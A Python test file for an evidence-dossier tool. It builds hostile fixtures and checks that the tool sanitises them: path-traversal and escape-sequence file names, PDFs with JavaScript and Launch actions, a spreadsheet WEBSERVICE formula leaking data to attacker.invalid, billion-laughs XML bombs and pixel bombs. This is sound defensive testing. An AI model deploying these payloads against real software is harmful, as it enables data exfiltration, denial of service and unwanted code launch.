"""Security pass: hostile file names, symlinks, active PDF content, spreadsheet formulas and
external links, XML bombs in image metadata, pixel bombs, and originals kept byte-for-byte.

Fixture files are made in the tests (Pillow, pypdf, openpyxl), so each one shows exactly the
hostile feature it exercises. See docs/security.md for the threat model.
"""

from __future__ import annotations

import io
import re
import socket
import struct
import time
import tracemalloc
import unicodedata
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from PIL import Image

from conftest import tree_snapshot
from crashkit import AT, SAMPLE, make_template
from disputekit.assemble.build import build_dossier
from disputekit.case import CasePaths, load_evidence
from disputekit.cli.main import cli
from disputekit.collect.evidence_ops import MAX_NAME, add_files, display_name
from disputekit.collect.inspect import inspect_file
from disputekit.errors import InputFileError
from disputekit.models.build import BuildOptions
from disputekit.models.facts import ChatFacts, DocumentFacts
from disputekit.store.hashing import sha256_file

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ACTIVE_KEYS = {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/AcroForm", "/AA", "/XFA",
               "/RichMedia", "/SubmitForm", "/ImportData"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/RichMediaExecute",
                  "/Rendition", "/GoToE"}


def run(args: list[str]) -> Any:
    """The CLI as on a terminal: ``color=True`` keeps escape sequences (Click strips ANSI
    colour codes only when output is not a terminal)."""
    return CliRunner().invoke(cli, args, color=True)


def printable(text: str, *, newlines: bool = True) -> bool:
    return not any((unicodedata.category(c) == "Cc" and not (newlines and c == "\n"))
                   or c in BIDI for c in text)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_template(tmp_path_factory.mktemp("sec") / "tpl")


@pytest.fixture
def case(template: Path, tmp_path: Path) -> Path:
    from crashkit import copy_case

    return copy_case(template, tmp_path / "case")


def picture(path: Path, colour: tuple[int, int, int], **save: Any) -> Path:
    """A small image; PNG unless the name's extension says otherwise."""
    suffix = path.suffix.lower()
    fmt = {".jpg": "JPEG", ".webp": "WEBP", ".tif": "TIFF"}.get(suffix, "PNG")
    Image.new("RGB", (40, 30), colour).save(path, format=fmt, **save)
    return path


# --------------------------------------------------------------------------- file names

HOSTILE_NAMES = [
    "..\\..\\..\\etc\\passwd.png",
    "C:\\Windows\\System32\\evil.png",
    "\\\\server\\share\\x.png",
    "....png",
    "-rf --no-preserve-root.png",
    "red\x1b[31m\x1b]0;pwned\x07bell.png",
    "line\nbreak\rreturn\ttab.png",
    "invoice\u202egnp.exe",
    "\u2066isolate\u2069\u200fmark.png",
    "长" * 80 + ".png",  # 80 CJK characters: 243 bytes, near the file system's 255
    "a" * 251 + ".png",
]


def test_hostile_file_names_become_safe_display_names(case: Path, tmp_path: Path) -> None:
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    files = [picture(incoming / name, (10 * n, 40, 90)) for n, name in enumerate(HOSTILE_NAMES)]
    outside = tree_snapshot(tmp_path / "incoming")
    result = run(["add", str(case), *map(str, files), "--now", "2025-04-21 09:00"])
    assert result.exit_code == 0, result.output
    items = load_evidence(CasePaths(case).evidence).items[2:]
    assert len(items) == len(HOSTILE_NAMES)
    for item in items:
        assert printable(item.name, newlines=False), repr(item.name)
        assert "/" not in item.name and "\\" not in item.name
        assert 0 < len(item.name) <= MAX_NAME
    objects = CasePaths(case).objects
    assert sorted(p.parent.name + p.name for p in objects.rglob("*") if p.is_file()) == sorted(
        {i.sha256 for i in load_evidence(CasePaths(case).evidence).items})
    assert tree_snapshot(tmp_path / "incoming") == outside  # nothing written next to sources
    assert {p.name for p in tmp_path.iterdir()} == {"incoming", "case"}
    listing = run(["list", str(case)])
    assert listing.exit_code == 0 and printable(listing.output), repr(listing.output)
    as_json = run(["list", str(case), "--json"])
    assert printable(as_json.output)


def test_display_name_of_an_overlong_name_is_bounded() -> None:
    assert display_name(Path("x" * 300 + ".jpg")) == "x" * (MAX_NAME - 1) + "…"
    assert display_name(Path("a\u202eb\x00c\u0085d")) == "abcd"
    assert display_name(Path("\x1b\x07")) == "unnamed"


def test_built_dossier_attachment_names_are_not_paths(case: Path, tmp_path: Path) -> None:
    from pypdf import PdfReader

    pic = picture(tmp_path / "..\\..\\boot.ini.png", (1, 2, 3))
    add_files(case, [pic], at=AT, actor="t")
    result = build_dossier(case, BuildOptions(now=AT, draft=True, jobs=1, upload=False,
                                              profile_path=attaching_originals(tmp_path)))
    names = list(PdfReader(result.dossier).attachments)
    assert "E3_.._.._boot.ini.png" in names
    assert all("/" not in n and "\\" not in n and printable(n, newlines=False) for n in names)


def test_error_messages_carry_no_terminal_controls(case: Path, tmp_path: Path) -> None:
    missing = tmp_path / "gone\x1b[2J\x1b]0;title\x07.png"
    result = run(["add", str(case), str(missing)])
    assert result.exit_code == 5
    assert printable(result.output) and "gone [2J ]0;title .png" in result.output


def test_add_confirmation_carries_no_terminal_controls(case: Path, tmp_path: Path) -> None:
    pic = picture(tmp_path / "x\x1b[31m.png", (5, 5, 5))
    result = run(["add", str(case), str(pic)])
    assert result.exit_code == 0 and printable(result.output), repr(result.output)


def test_control_characters_inside_evidence_never_reach_the_terminal(case: Path,
                                                                      tmp_path: Path) -> None:
    """EXIF Software/Make, chat nicknames and tracking fields are strangers' strings: ``list``
    and ``inspect`` print them. The originals keep every byte."""
    exif = Image.Exif()
    exif[0x0131] = "Evil\x1b[31mRed\x07\u202egpj"
    exif[0x010F] = "Make\x1b]0;title\x07"
    photo = picture(tmp_path / "p.jpg", (200, 10, 10), exif=exif.tobytes())
    body = "你好，请问什么时候发货呢？谢谢亲。" * 4
    chat = tmp_path / "chat.txt"
    chat.write_text(f"tb_小明2021\x1b[2J 2025-4-20 10:02:03\n{body}\x07\n"
                    f"悦家\u202e旗舰店 2025-4-20 10:03:03\n在的\n", "utf-8")
    result = run(["add", str(case), str(photo), str(chat)])
    assert result.exit_code == 0, result.output
    for args in (["list", str(case)], ["list", str(case), "--json"],
                 ["inspect", str(photo)], ["inspect", str(chat), "--json"]):
        shown = run(args)
        assert shown.exit_code == 0 and printable(shown.output), (args, shown.output)
    facts = inspect_file(photo)
    assert facts.software == "Evil [31mRed ?gpj"  # type: ignore[union-attr]  (EXIF is ASCII)
    items = load_evidence(CasePaths(case).evidence).items
    assert (CasePaths(case).objects / items[2].sha256[:2] / items[2].sha256[2:]).read_bytes() \
        == photo.read_bytes()


# --------------------------------------------------------------------------- symlinks


def test_symlink_inside_its_folder_is_accepted(case: Path, tmp_path: Path) -> None:
    folder = tmp_path / "evidence"
    (folder / "sub").mkdir(parents=True)
    real = picture(folder / "sub" / "real.png", (9, 9, 9))
    link = folder / "link.png"
    link.symlink_to("sub/real.png")
    add_files(case, [link], at=AT, actor="t")
    item = load_evidence(CasePaths(case).evidence).items[-1]
    assert (item.name, item.sha256) == ("link.png", sha256_file(real)[0])


@pytest.mark.parametrize("chained", [False, True])
def test_symlink_pointing_outside_is_refused(case: Path, tmp_path: Path, chained: bool) -> None:
    secret = tmp_path / "secret" / "id_rsa.png"
    secret.parent.mkdir()
    picture(secret, (1, 1, 1))
    folder = tmp_path / "evidence"
    folder.mkdir()
    link = folder / "photo.png"
    if chained:  # inside → inside → outside
        (folder / "hop.png").symlink_to(secret)
        link.symlink_to("hop.png")
    else:
        link.symlink_to(secret)
    before = tree_snapshot(case)
    result = run(["add", str(case), str(link)])
    assert result.exit_code == 5
    assert result.output == (f"Error: {link} is a symbolic link pointing outside its folder "
                             f"({secret}); refused. Add the real file instead.\n")
    assert tree_snapshot(case) == before


# --------------------------------------------------------------------------- active PDF content


def hostile_pdf(path: Path) -> Path:
    """One page of text with: document JavaScript (names tree), an OpenAction, a page /AA,
    a Launch link, a form field with a keystroke script, and an embedded .exe."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )
    from reportlab.pdfgen.canvas import Canvas

    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=(300, 300), invariant=1)
    canvas.drawString(20, 250, "Inspection report: PASSED")
    canvas.showPage()
    canvas.save()
    writer = PdfWriter(clone_from=io.BytesIO(buf.getvalue()))
    page = writer.pages[0]

    def name(value: str) -> NameObject:
        return NameObject(value)

    def script(code: str) -> DictionaryObject:
        return DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(code)})

    def rect(*values: float) -> ArrayObject:
        return ArrayObject([FloatObject(v) for v in values])

    launch = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
                               name("/Rect"): rect(0, 0, 100, 100),
                               name("/A"): DictionaryObject({name("/S"): name("/Launch"),
                                                             name("/F"): TextStringObject("calc.exe")})})
    field = writer._add_object(DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"), name("/FT"): name("/Tx"),
        name("/T"): TextStringObject("name"), name("/Rect"): rect(10, 150, 200, 170),
        name("/AA"): DictionaryObject({name("/K"): script("app.launchURL('http://x')")})}))
    page[name("/Annots")] = ArrayObject([writer._add_object(launch), field])
    page[name("/AA")] = DictionaryObject({name("/O"): script("this.print()")})
    writer._root_object[name("/OpenAction")] = writer._add_object(script("app.alert('hi')"))
    writer._root_object[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([field])})
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not a real program")
    names = writer._root_object["/Names"]
    names[name("/JavaScript")] = DictionaryObject({name("/Names"): ArrayObject([
        TextStringObject("init"), writer._add_object(script("app.alert('doc')"))])})
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def active_content(pdf: Path) -> list[str]:
    """Every active-content key or action in *any* object of the file (referenced or not);
    stream dictionaries are checked, stream data is not."""
    from pypdf import PdfReader
    from pypdf.generic import DictionaryObject, StreamObject

    reader = PdfReader(pdf)
    found = []
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(number)
        except Exception:  # free entries
            continue
        if isinstance(obj, (DictionaryObject, StreamObject)):
            found += _active_in(obj, f"obj {number}")
    return found


def _active_in(obj: Any, where: str, depth: int = 0) -> list[str]:
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    if isinstance(obj, IndirectObject) or depth > 12:
        return []  # indirect objects are visited on their own
    found = []
    if isinstance(obj, DictionaryObject):
        for key, value in obj.items():
            if key in ACTIVE_KEYS:
                found.append(f"{where}: {key}")
            if key == "/S" and value in ACTIVE_ACTIONS:
                found.append(f"{where}: /S {value}")
            found += _active_in(value, f"{where}{key}", depth + 1)
    elif isinstance(obj, ArrayObject):
        for value in obj:
            found += _active_in(value, where, depth + 1)
    return found


def test_pdf_with_active_content_is_added_with_flags_and_neutralised_in_the_dossier(
        case: Path, tmp_path: Path) -> None:
    from pypdf import PdfReader

    report = hostile_pdf(tmp_path / "report.pdf")
    assert len(active_content(report)) >= 6  # the fixture really is hostile
    add_files(case, [report], at=AT, actor="t")
    item = load_evidence(CasePaths(case).evidence).items[-1]
    facts = DocumentFacts.model_validate(item.facts)
    assert (facts.has_javascript, facts.has_open_action, facts.has_launch_action,
            facts.has_attachments, facts.has_forms) == (True, True, True, True, True)
    result = build_dossier(case, BuildOptions(now=AT, draft=True, jobs=1, upload=False,
                                              profile_path=attaching_originals(tmp_path)))
    assert active_content(result.dossier) == []
    reader = PdfReader(result.dossier)
    assert "/AcroForm" not in reader.trailer["/Root"] and "/OpenAction" not in reader.trailer["/Root"]
    assert set(reader.trailer["/Root"]["/Names"]) == {"/EmbeddedFiles"}
    attached = reader.attachments[f"{item.id}_report.pdf"]
    assert attached == [report.read_bytes()]  # the original only as an attached file …
    specs = reader.trailer["/Root"]["/Names"]["/EmbeddedFiles"]["/Names"]
    for spec in specs[1::2]:  # … and every attached file compressed
        assert spec.get_object()["/EF"]["/F"].get_object()["/Filter"] == "/FlateDecode"
    raw = result.dossier.read_bytes()
    assert b"MZ\x90\x00 not a real program" not in raw and b"app.alert" not in raw
    assert b"calc.exe" not in raw and b"calc\\056exe" not in raw


def catalog_through_resources_pdf(path: Path) -> Path:
    """A page that shows text, whose *resources* reach the document's catalog (an ExtGState
    and a form XObject point at it), which holds an /OpenAction script, document JavaScript,
    a /Launch and a /URI action under /AA, and an embedded payload.exe (issue 15 §5)."""
    import pikepdf
    from reportlab.pdfgen.canvas import Canvas

    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=(300, 300), invariant=1)
    canvas.drawString(20, 250, "Inspection report: PASSED")
    canvas.showPage()
    canvas.save()
    pdf = pikepdf.open(io.BytesIO(buf.getvalue()))
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('open')"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
        WS=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example/x"))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a real program")
    pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([
        pikepdf.String("init"), pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS="app.alert('doc')"))]))
    page = pdf.pages[0]
    resources = page.obj.Resources
    resources.ExtGState = pikepdf.Dictionary(GS9=pikepdf.Dictionary(
        Type=pikepdf.Name.ExtGState, CA=1, Catalog=pdf.trailer.Root))
    form = pdf.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                           BBox=pikepdf.Array([0, 0, 1, 1]),
                           Resources=pikepdf.Dictionary(Doc=pdf.trailer.Root))
    resources.XObject = pikepdf.Dictionary(Fx9=form)
    page.contents_add(pdf.make_stream(b"/GS9 gs /Fx9 Do"), prepend=False)
    pdf.save(path)
    return path


def test_active_content_reached_through_page_resources_is_not_copied(
        case: Path, tmp_path: Path) -> None:
    """Evidence pages are drawn as images: the dossier is built (not refused) and holds none
    of what the evidence's resources reach — in the review and submission editions alike."""
    import pikepdf

    from disputekit.assemble.pdf.active_scan import active_problems

    report = catalog_through_resources_pdf(tmp_path / "report.pdf")
    with pikepdf.open(report) as evidence:
        assert len(active_problems(evidence)) >= 5  # the fixture really is hostile
    add_files(case, [report], at=AT, actor="t")
    result = build_dossier(case, BuildOptions(now=AT, draft=True, jobs=1, upload=False))
    assert result.submission is not None
    for dossier in (result.dossier, result.submission):
        assert active_content(dossier) == []
        with pikepdf.open(dossier) as pdf:
            assert active_problems(pdf) == []
            assert set(pdf.attachments) <= {"manifest.json"} | {
                n for n in pdf.attachments if n.endswith(".masked.txt")}
            drawn = 0
            for page in pdf.pages:  # no ExtGState, font or form of the evidence is copied
                xobjects = page.obj.get("/Resources", {}).get("/XObject", {})
                for key, xobject in xobjects.items():
                    if key.startswith("/DkPg"):
                        drawn += 1
                        assert xobject.Subtype == pikepdf.Name.Image
                        assert set(xobject.keys()) <= {
                            "/Type", "/Subtype", "/Width", "/Height", "/BitsPerComponent",
                            "/ColorSpace", "/Filter", "/DecodeParms", "/Length"}
            assert drawn == 1  # the evidence page is there, as a picture
        raw = dossier.read_bytes()
        for needle in (b"MZ\x90\x00 not a real program", b"app.alert", b"calc.exe",
                       b"evil.example", b"payload.exe"):
            assert needle not in raw


# --------------------------------------------------------------------------- spreadsheets


def formula_workbook(cached: bool) -> bytes:
    """A chat XLSX whose message cells are formulas (WEBSERVICE, HYPERLINK, an external
    workbook reference) plus an externalLink part pointing at a web URL; with ``cached``,
    the formula cells carry stored results as Excel would save them."""
    from openpyxl import Workbook
    from openpyxl.packaging.relationship import Relationship
    from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink

    book = Workbook()
    sheet = book.active
    sheet.append(["时间", "发送人", "内容"])
    sheet.append(["2025-04-20 10:02:03", "tb_小明2021",
                  '=WEBSERVICE("http://attacker.invalid/leak?"&B2)'])
    sheet.append(["2025-04-20 10:03:03", "悦家旗舰店", "=[1]Sheet1!A1"])
    sheet.append(["2025-04-20 10:04:03", "悦家旗舰店", '=HYPERLINK("http://attacker.invalid","点我")'])
    sheet.append(["2025-04-20 10:05:03", "tb_小明2021", "好的"])
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target="http://attacker.invalid/b.xlsx",
                                  TargetMode="External", Id="rId1")
    book._external_links.append(link)
    out = io.BytesIO()
    book.save(out)
    if not cached:
        return out.getvalue()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    patched = io.BytesIO()
    with zipfile.ZipFile(patched, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<c r="(C[234])"([^>]*)><f>(.*?)</f><v\s*/?>(</v>)?',
                              lambda m: b'<c r="' + m[1] + b'" t="str"><f>' + m[3]
                              + b"</f><v>stored " + m[1] + b"</v>", data)
            target.writestr(info, data)
    return patched.getvalue()


@pytest.mark.parametrize("cached", [False, True])
def test_xlsx_formulas_are_not_evaluated_and_links_not_followed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cached: bool) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"network access attempted: {args}")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    path = tmp_path / "chat.xlsx"
    path.write_bytes(formula_workbook(cached))
    facts = inspect_file(path, buyer="tb_小明2021", seller="悦家旗舰店")
    assert isinstance(facts, ChatFacts) and facts.format == "xlsx"
    expected = ["stored C2", "stored C3", "stored C4"] if cached else ["", "", ""]
    assert [m.text for m in facts.messages] == [*expected, "好的"]


# --------------------------------------------------------------------------- XML bombs

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
              for n in range(1, 10))
    + ']>\n<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    'xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6">&lol9;'
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
).encode()


def xmp_images(folder: Path) -> list[Path]:
    from PIL.PngImagePlugin import PngInfo

    png_info = PngInfo()
    png_info.add_itxt("XML:com.adobe.xmp", BILLION_LAUGHS.decode())
    return [
        picture(folder / "bomb.jpg", (1, 2, 3), xmp=BILLION_LAUGHS),
        picture(folder / "bomb.png", (1, 2, 3), pnginfo=png_info),
        picture(folder / "bomb.webp", (1, 2, 3), xmp=BILLION_LAUGHS),
        picture(folder / "bomb.tif", (1, 2, 3), tiffinfo={700: BILLION_LAUGHS}),
    ]


def test_xml_bomb_in_xmp_metadata_is_never_expanded(tmp_path: Path) -> None:
    for image in xmp_images(tmp_path):
        tracemalloc.start()
        start = time.monotonic()
        try:
            facts = inspect_file(image)
            Image.open(image).getexif()  # what orientation reading asks Pillow for
        finally:
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        assert time.monotonic() - start < 5, image
        assert peak < 64 * 1024 * 1024, (image, peak)  # 10^9 "lol"s would be 3 GB
        assert facts.kind in ("photo", "screenshot")


def test_xml_bomb_in_pdf_metadata_is_never_expanded(tmp_path: Path) -> None:
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    stream = StreamObject()
    stream.set_data(BILLION_LAUGHS)
    stream[NameObject("/Type")] = NameObject("/Metadata")
    stream[NameObject("/Subtype")] = NameObject("/XML")
    writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
    path = tmp_path / "meta.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    tracemalloc.start()
    start = time.monotonic()
    try:
        facts = inspect_file(path)
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert facts.kind == "document" and time.monotonic() - start < 5 and peak < 64 * 2**20


# --------------------------------------------------------------------------- pixel bombs


def png_claiming(width: int, height: int) -> bytes:
    """A valid PNG signature and IHDR claiming ``width``×``height``, one tiny IDAT."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose SOF0 header is patched to claim ``width``×``height``."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@pytest.mark.parametrize(("name", "data", "size"), [
    ("big.png", png_claiming(20_000, 20_000), "400 MP"),
    ("big.jpg", jpeg_claiming(30_000, 30_000), "900 MP"),
    ("wide.png", png_claiming(150_000, 1_000), "150 MP"),
], ids=["png-400MP", "jpeg-900MP", "png-150MP"])
def test_images_over_the_pixel_limit_are_refused(case: Path, tmp_path: Path, name: str,
                                                 data: bytes, size: str) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    before = tree_snapshot(case)
    start = time.monotonic()
    result = run(["add", str(case), str(path)])
    assert time.monotonic() - start < 5
    assert result.exit_code == 5
    assert result.output == (
        f"Error: The image {name} is too large ({size}); it exceeds the 100 MP pixel limit "
        "(a decompression bomb or an ultra-high-resolution photo). If it is a real photo, "
        "export it at a lower resolution (or screenshot it) and add that.\n")
    assert tree_snapshot(case) == before
    with pytest.raises(InputFileError):
        inspect_file(path)


# --------------------------------------------------------------------------- buyer PII

PHONES = ("13812345678", "+86 139-1234-5678", "021-61234567")


def test_sealed_originals_keep_full_phone_numbers(case: Path, tmp_path: Path) -> None:
    """Masking belongs to derived outputs only (dossier, upload bundle): the originals in
    .disputekit/objects stay byte-for-byte what the buyer and courier produced."""
    chat = tmp_path / "chat_phone.txt"
    chat.write_bytes((SAMPLE / "chat.txt").read_bytes() + ("\ntb_小明2021 2025-4-20 11:00:00\n"
                     f"我的电话 {PHONES[0]}，备用 {PHONES[1]}\n").encode("gb18030"))
    tracking = tmp_path / "tracking_phone.json"
    tracking.write_bytes((SAMPLE / "tracking.json").read_bytes().replace(
        "已签收".encode(), f"已签收，收件人电话{PHONES[2]}，".encode(), 1))
    add_files(case, [chat, tracking], at=AT, actor="t")
    store = CasePaths(case).objects
    for item, source in zip(load_evidence(CasePaths(case).evidence).items[2:], (chat, tracking),
                            strict=True):
        stored = (store / item.sha256[:2] / item.sha256[2:]).read_bytes()
        assert stored == source.read_bytes()
    data = b"".join(p.read_bytes() for p in store.rglob("*") if p.is_file())
    assert all(phone.encode("gb18030") in data for phone in PHONES)


def attaching_originals(folder: Path) -> Path:
    """A shop file that attaches the originals to the review dossier (off by default: issue 12)."""
    shop = folder / "attach.toml"
    shop.write_text('[privacy]\nattach_originals = { value = true, source = "test", confidence = "high" }\n',
                    "utf-8")
    return shop
